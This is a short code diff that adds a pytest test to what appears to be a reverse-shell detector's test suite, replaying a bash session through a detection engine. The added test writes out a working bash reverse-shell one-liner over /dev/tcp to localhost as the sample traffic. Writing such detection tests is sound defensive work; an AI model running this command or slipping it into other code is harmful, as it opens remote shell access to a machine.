@@ -131,3 +131,16 @@ def test_no_reverse_shell_in_real_captures():
 def test_fuzz_never_raises(out, inp, closed):
     assert DET.inspect(view(out, inp, closed)).status in set(Status)
     assert DET.inspect(view(b"root@x:~# " + out, b"id\n" + inp, closed)).status in set(Status)
+
+
+@pytest.mark.skipif(shutil.which("bash") is None, reason="needs bash")
+def test_bash_reverse_shell_through_the_engine():
+    try:
+        from protocols_pcap import engine_replay
+    except ImportError:
+        from tests.inspect.protocols_pcap import engine_replay
+    out, inp = operate(["bash", "-c", "exec bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1"], [b"id\n", b"exit\n"])
+    # the shell speaks first (job-control messages, prompt), then the operator's commands
+    sizes = [(0.0, 0, len(out) // 2), (0.5, 1, len(inp)), (0.6, 0, len(out) - len(out) // 2)]
+    [event] = engine_replay(out, inp, sizes)
+    assert "reverse_shell" in {d["category"] for d in event["detections"]}
